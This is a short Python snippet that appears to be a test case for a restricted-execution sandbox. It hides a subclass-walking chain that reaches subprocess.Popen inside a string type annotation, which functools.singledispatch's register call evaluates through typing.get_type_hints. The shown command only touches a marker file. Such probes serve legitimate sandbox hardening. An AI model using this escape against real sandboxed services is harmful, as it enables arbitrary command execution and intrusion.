# escape: singledispatch().register(f) calls typing.get_type_hints(f), which evaluates a string annotation unrestricted
# effect: marker
import functools
def f(x: "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0](['touch', '{marker}']).wait()"):
    pass
try:
    functools.singledispatch(lambda x: x).register(f)
except Exception:
    pass
return "done"
